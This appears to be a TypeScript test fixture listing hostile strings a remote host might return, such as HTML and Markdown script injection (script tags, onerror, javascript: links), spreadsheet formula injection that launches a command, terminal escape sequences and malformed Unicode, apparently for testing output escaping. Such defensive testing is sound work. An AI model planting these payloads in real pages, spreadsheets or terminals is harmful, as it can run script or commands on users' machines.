/** Texts that a hostile host may answer, by what they try to break out of. */
export const hostile = {
  markup: '</td><script>alert("x")</script><img src=x onerror=alert(1)> &amp; \'quoted\'',
  cdata: 'before ]]> <!-- comment --> <?pi?> &unknown; after',
  formula: '=HYPERLINK("http://example.org/"&A1,"click")',
  formulas: "@SUM(1+1)*cmd|'/C calc'!A0",
  negative: "-2+3+cmd|'/C calc'!A0",
  terminal: '\u001b[31mred\u001b[0m \u0007 \u001b]0;title\u0007',
  control: 'nul \u0000 backspace \u0008 delete \u007f next-line \u0085',
  separators: 'tab\there, comma, semicolon; "quotes" back\\slash\r\nsecond line\rthird\u2028fourth',
  markdown: '| pipe | `tick` **bold** [link](javascript:alert(1)) \\| # not a heading',
  bidirectional: 'left \u202eright\u202c \u2066isolated\u2069 \ufeffbom',
  noncharacter: 'not a character \ufffe \uffff, half a pair \ud83d and \udc00',
  unicode: 'Zertifikat für 証明書 🔒',
  empty: '',
  spaces: '   ',
  long: 'x'.repeat(5000),
} as const;
